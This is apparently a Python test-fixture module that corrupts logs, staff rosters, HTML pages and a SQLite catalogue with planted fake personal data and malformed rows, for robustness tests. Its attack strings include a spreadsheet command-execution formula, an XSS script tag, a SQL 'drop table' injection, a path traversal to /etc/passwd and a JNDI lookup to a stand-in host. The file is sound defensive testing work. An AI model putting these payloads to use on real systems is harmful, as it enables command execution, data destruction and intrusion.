"""What an attacker or an accident puts into text files and databases: the hostile variety's rows, pages and entries.

The people planted here stand in personal columns, in every other kind of column and in remarks, so that a test can look for them wherever
nobody may be named. Nothing here must change a figure of the demonstration: a row that can be read repeats another, names nobody whom the
roster knows, or is nothing that counts.
"""

import csv
import io
import sqlite3
from contextlib import closing
from datetime import date

from demo import specialists
from demo.city import seeded

PLANTED_NAMES = ("山田太郎花子", "Zebedee Quux")
PLANTED_MAIL = "zebedee.quux@example.lg.jp"
PLANTED_IP = "10.99.88.77"

FORMULA = "=cmd|' /C calc'!A0"
SCRIPT = f"<script>alert('{PLANTED_MAIL}')</script>"
SQL = "'; drop table landed; --"
LONG_TEXT = "長い" * 35_000
UNDEFINED_BYTES = b"\x85\x9f"  # the place of a character of one's own (外字) that CP932 does not know

_JAPANESE_NAME, _FOREIGN_NAME = PLANTED_NAMES
_BUREAU = "総務局"


def spoiled_log(content: bytes, day: date, encoding: str, newline: str) -> bytes:
    """Append rows to a day's log: attacks, cells in the wrong column, broken rows, and two of its own rows again."""
    stamp = f"{day.isoformat()}T01:02:03Z"
    written = _csv_bytes(_log_rows(stamp), encoding, newline) + newline.encode().join(_broken_log_lines(stamp, encoding)) + newline.encode()
    return content + written + b"".join(content.splitlines(keepends=True)[1:3])


def _log_rows(stamp: str) -> list[tuple[str, ...]]:
    attacks = (
        FORMULA,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        SCRIPT,
        SQL,
        '"quoted", "twice"',
        "../../etc/passwd",
        "${jndi:ldap://example.invalid}",
    )
    rows = [(stamp, PLANTED_MAIL, "login", attack, PLANTED_IP) for attack in attacks]
    rows += [
        (stamp, FORMULA, "login", LONG_TEXT, PLANTED_IP),
        (_JAPANESE_NAME, PLANTED_MAIL, "view", "", PLANTED_IP),
        (PLANTED_MAIL, _FOREIGN_NAME, "view", "", PLANTED_IP),
        (stamp, _FOREIGN_NAME, _JAPANESE_NAME, "", PLANTED_IP),
        (stamp, _JAPANESE_NAME, PLANTED_MAIL, SCRIPT, PLANTED_IP),
        (PLANTED_IP, stamp, _FOREIGN_NAME, "view", PLANTED_MAIL),
        ("9999-12-31T23:59:59Z", _FOREIGN_NAME, "view", "", PLANTED_IP),
        ("0001-01-01T00:00:00Z", _FOREIGN_NAME, "export", "", PLANTED_IP),
    ]
    return rows


def _broken_log_lines(stamp: str, encoding: str) -> list[bytes]:
    """Write lines that are no rows: NUL bytes, a lone quotation mark, too few and too many fields, and bytes of another encoding."""
    start = f"{stamp},{PLANTED_MAIL},".encode()
    foreign = UNDEFINED_BYTES if encoding == "cp932" else _JAPANESE_NAME.encode("cp932")
    return [
        start + b"vi\0ew,\0," + PLANTED_IP.encode(),
        start + b'"view,,' + PLANTED_IP.encode(),
        start.rstrip(b","),
        start + b"view,,," + PLANTED_IP.encode() + b",,",
        start + b"view," + foreign + b"," + PLANTED_IP.encode(),
    ]


def spoiled_roster(content: bytes) -> bytes:
    """Append seven rows to a month's roster, under 2 % of it, for people whom no other source knows."""
    rows = [
        ("S0099001", _BUREAU, _JAPANESE_NAME, "2022/04/01", ""),
        ("S0099002", _FOREIGN_NAME, _BUREAU, "2022/05/01", "2022/04/01"),
        ("S0099003", FORMULA, _BUREAU, _JAPANESE_NAME, ""),
        (PLANTED_MAIL, f'{_FOREIGN_NAME}, "Zeb" {PLANTED_IP}', _BUREAU, "2022/04/01", "2022/05/31"),
        ("S0099004", SQL, PLANTED_MAIL, "2022/04/01", ""),
    ]
    lone_quote = f'S0099005,"{_JAPANESE_NAME},{_BUREAU},2022/04/01,'.encode("cp932")
    own_character = f"S0099006,{_JAPANESE_NAME},".encode("cp932") + UNDEFINED_BYTES + "務局,2022/04/01,".encode("cp932")
    return content + _csv_bytes(rows, "cp932", "\r\n") + lone_quote + b"\r\n" + own_character + b"\r\n"


def specialists_file() -> bytes:
    """Write a list of specialists with a row of each kind of garbage; none has both a day of the demonstration's years and a number."""
    good = {"day": "令和4年7月1日", "count": "1", "name": _JAPANESE_NAME, "remark": f"{_FOREIGN_NAME} {PLANTED_IP}"}
    spoilt = (
        {"day": _JAPANESE_NAME},
        {"day": PLANTED_MAIL},
        {"day": "9999/12/31"},
        {"day": "0001/01/01"},
        {"day": "令和99年1月1日"},
        {"day": "44743", "count": "9" * 400},
        {"day": "", "count": "-1"},
        {"count": _FOREIGN_NAME},
        {"count": PLANTED_MAIL},
        {"count": "NaN"},
        {"count": "1e309"},
        {"count": "▲"},
        {"count": FORMULA, "remark": FORMULA},
        {"count": SCRIPT, "remark": SCRIPT},
        {"count": SQL, "name": SQL},
        {"count": "多数", "remark": LONG_TEXT},
        {"count": "1\n2", "remark": '行の\n途中 "改行"'},
    )
    rows = []
    for number, spoil in enumerate(spoilt, start=1):
        row = {**good, **spoil}
        rows.append((f"R4-{number:03}", row["name"], row["day"], "データサイエンティスト", "デジタル統括室", row["count"], row["remark"]))
    lines = [
        "R4-101,項目不足".encode("cp932"),
        f"R4-102,{_JAPANESE_NAME},R4.7.1,職種,{_BUREAU},1,,,{PLANTED_MAIL}".encode("cp932"),
        f'R4-103,"{_JAPANESE_NAME},R4.7.1,職種,{_BUREAU},1,'.encode("cp932"),
        b"R4-104,\0,\0,\0,\0,\0,\0",
        b"R4-105," + UNDEFINED_BYTES + b",," + UNDEFINED_BYTES + b",,,",
    ]
    return specialists.file_bytes(rows) + b"".join(line + b"\r\n" for line in lines)


def pages() -> dict[str, bytes]:
    """Write pages that are no operating policy, or none of a bureau that exists, by file name."""
    body = (
        f"<h1>令和4年度架空局運営方針</h1><script>document.title = '{PLANTED_MAIL}'</script>"
        f"<table><tr><td><table><tr><td><table><tr><td>{_JAPANESE_NAME}</td><td>{PLANTED_IP}</td></tr></table></td></tr></table>"
        f"<h3>【アウトカム指標の達成状況(定量評価)】</h3><ul><li>{_FOREIGN_NAME} {PLANTED_MAIL} 99件:A</li><li>{FORMULA}</li></ul>"
        "</td></tr></table><iframe src='https://example.invalid/'></iframe>"
    )
    whole = f'<html lang="ja"><head><meta charset="UTF-8"></head><body>{body}</body></html>'
    cut = whole.encode()[: len(whole.encode().split("定量".encode())[0]) + 4]
    return {
        "hostile-empty.html": b"",
        "hostile-truncated.html": cut,
        "hostile-binary.html": seeded("binary page").randbytes(4096),
        "hostile-one-line.html": ("<p>" + f"{_JAPANESE_NAME} " * 50_000 + "</p>").encode(),
        "hostile-script.html": whole.encode(),
    }


def spoiled_catalogue(content: bytes) -> bytes:
    """Add entries to the catalogue of procedures, none of which is ever open on a day of the demonstration."""
    changes: tuple[tuple[str | bytes, str | bytes | None, str | bytes | int | None], ...] = (
        ("H00001", _FOREIGN_NAME, PLANTED_MAIL),
        ("H00002", PLANTED_MAIL, _JAPANESE_NAME),
        ("H00003", b"\0\xff\xfe", b"\xde\xad\xbe\xef"),
        (b"\0H00004\xff", "registered", PLANTED_IP),
        ("H" * 10_000, "registered", "yesterday"),
        (SQL, f"registered{SQL}", "2022-06-31"),
        ("H00007", SCRIPT, FORMULA),
        ("H00008", "registered", 45_000),
        ("H00009", "registered", "9999-12-31"),
        ("H00010", "retired", "0001-01-01"),
        ("", "registered", ""),
    )
    with closing(sqlite3.connect(":memory:")) as connection:
        connection.deserialize(content)
        for place, (key, status, changed_on) in enumerate(changes):
            connection.execute("insert into procedures values (?, ?)", (key, f"{PLANTED_NAMES[place % 2]} {PLANTED_MAIL} {PLANTED_IP}"))
            connection.execute("insert into procedure_departments values (?, ?)", (key, (*PLANTED_NAMES, b"\xff", _BUREAU)[place % 4]))
            connection.execute("insert into procedure_status_changes values (?, ?, ?)", (key, status, changed_on))
        connection.commit()
        return connection.serialize()


def _csv_bytes(rows: list[tuple[str, ...]], encoding: str, newline: str) -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator=newline).writerows(rows)
    return text.getvalue().encode(encoding)
